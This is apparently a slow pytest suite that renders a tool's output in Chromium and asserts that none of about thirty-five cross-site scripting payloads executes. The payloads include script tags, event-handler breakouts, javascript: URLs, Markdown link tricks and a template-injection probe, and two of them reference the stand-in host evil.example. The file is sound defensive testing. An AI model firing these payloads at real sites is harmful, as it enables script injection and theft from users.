"""Script injection in every field of all that we write, opened in Chromium; `bench vectors` does so with more."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from bench.vectors import Caught, Trap, control, open_all, open_site, payloads_of, trap

pytestmark = pytest.mark.slow

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script, any case": "<ScRiPt>alert(1)</sCrIpT >",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "picture": "<img src=x onerror=alert(1)>",
    "picture, unclosed": "<img src=x onerror=alert(1)//",
    "vector picture": "<svg onload=alert(1)>",
    "script in a vector picture": "<svg><script>alert(1)</script></svg>",
    "formulas": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "opened details": "<details open ontoggle=alert(1)>x</details>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "script address in a frame": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "base": "<base href=//evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "out of double quotes": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "out of single quotes": "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    "out of no quotes": "x onmouseover=alert(1) ",
    "out of the title": "</title><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "out of a script": "</script><script>alert(1)</script>",
    "out of a text field": "</textarea><img src=x onerror=alert(1)>",
    "out of a comment": "--><img src=x onerror=alert(1)><!--",
    "out of character data": "]]><img src=x onerror=alert(1)>",
    "out of Outlook's comment": "<![endif]--><img src=x onerror=alert(1)>",
    "out of a Markdown link": "](javascript:alert(1)) [x](javascript:alert(1))",
    "Markdown picture": "![x](javascript:alert(1))",
    "Markdown definition": "[x]\n\n[x]: javascript:alert(1)\n[1]: javascript:alert(1)",
    "Markdown code": "``` <img src=x onerror=alert(1)> ```",
    "Markdown address": "<javascript:alert(1)>",
    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)",
    "script address": "javascript:alert(1)",
    "script address with a gap": "java\tscript:alert(1)",
    "script address after a control": "\x01javascript:alert(1)",
    "template of ours": "{{ ''.__class__ }}{% for x in y %}",
    "markup that is mended into script": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
}  # fmt: skip


@pytest.fixture(scope="module")
def browser() -> Iterator[Trap]:
    with trap() as set_up:
        yield set_up


@pytest.fixture(autouse=True)
def nothing_caught(browser: Trap) -> None:
    browser.caught = Caught()


@pytest.mark.parametrize("payload", [pytest.param(text, id=name) for name, text in PAYLOADS.items()])
def test_no_script_runs_and_none_could(browser: Trap, payload: str) -> None:
    open_all(browser, [payload])
    assert browser.caught.pages == 8
    assert browser.caught.executed == []
    assert browser.caught.planted == []


def test_no_script_runs_in_the_web_archive_but_its_own(browser: Trap) -> None:
    open_site(browser, list(PAYLOADS.values()))
    assert browser.caught.pages > 3 * len(PAYLOADS)
    assert browser.caught.executed == []
    assert browser.caught.planted == []


def test_the_trap_is_not_blind(browser: Trap) -> None:
    browser.open("raw", f"<!doctype html><body>{PAYLOADS['picture']}")
    assert browser.caught.executed == ["raw: alert"]
    assert control(browser, PAYLOADS.values()) > len(PAYLOADS) / 2


def test_payloads_are_read_as_a_browser_reads_them(browser: Trap, tmp_path: Path) -> None:
    module = tmp_path / "expect.mjs"
    module.write_text(
        "export default [\n {title: 'one', payload: '<b>' + \"\\u00e9\"},\n {payload: `x`, expected: ''},\n];"
    )
    assert payloads_of(browser, module) == ("<b>é", "x")
